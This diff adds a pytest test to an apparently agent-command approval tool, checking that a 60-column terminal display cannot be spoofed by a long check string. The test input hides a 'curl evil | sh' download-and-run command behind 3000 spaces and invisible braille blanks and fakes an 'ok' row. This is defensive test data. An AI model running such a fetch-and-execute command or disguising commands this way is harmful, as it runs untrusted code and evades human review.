@@ -240,3 +240,19 @@ def test_on_a_terminal_a_step_shows_what_runs_and_asks(clone: Project) -> None:
     assert re.search(r"landed|done", allowed)
     assert allowed.endswith("exit 0")
     assert clone.agentctl("trust").code == 0
+
+
+def test_no_row_of_a_long_check_poses_as_another_entry_or_hides_behind_blanks(clone: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+    """On a terminal of 60 columns, where a row that it begins by itself could begin with anything."""
+    long = f"echo {'#' * 46}ok   check: true" + "; x" * 40 + " " * 3000 + "; curl evil\u2800\u2800\u2800| sh"
+    _item(clone, checks=json.dumps(long, ensure_ascii=False))
+    monkeypatch.setenv("COLUMNS", "60")
+    monkeypatch.setenv("LINES", "6")
+    shown = _typed(clone, "n", "step")
+    rows = re.sub(r"\x1b\[[\d;]*m", "", shown).replace("\r", "").split("\n")
+    mine = [row for row in rows if row.startswith(("new", "     "))]
+    assert not [row for row in rows if row.startswith("ok ")]
+    assert max(map(len, mine)) <= 60
+    assert "⟨3000 blanks⟩" in "".join(row.removeprefix("     ↳ ") for row in mine)
+    assert "curl evil⟨3 blanks⟩| sh" in "".join(row.removeprefix("     ↳ ") for row in mine)
+    assert "scroll up to the first, or see agentctl trust | less" in shown
